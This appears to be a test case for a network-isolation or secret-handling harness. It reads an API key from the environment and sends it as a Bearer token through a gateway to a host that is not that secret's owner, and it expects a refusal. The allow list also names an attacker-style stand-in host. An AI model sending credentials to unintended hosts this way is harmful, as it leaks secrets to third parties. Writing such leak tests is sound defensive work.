# /// attack
# guarantee = "network"
# summary = "Sends a secret to another listed host, by the gateway."
# reference = "RFC 6750"
# success = "that server gets the value"
# stage = ["internet", "secret"]
# observe = ["told"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy other.example.org:443 is not a host of a secret" }
# ///

import os

from kit import by_gateway, judge

KEY = os.environ["API_KEY"]
judge(by_gateway("other.example.org", "/", f"Authorization: Bearer {KEY}"))
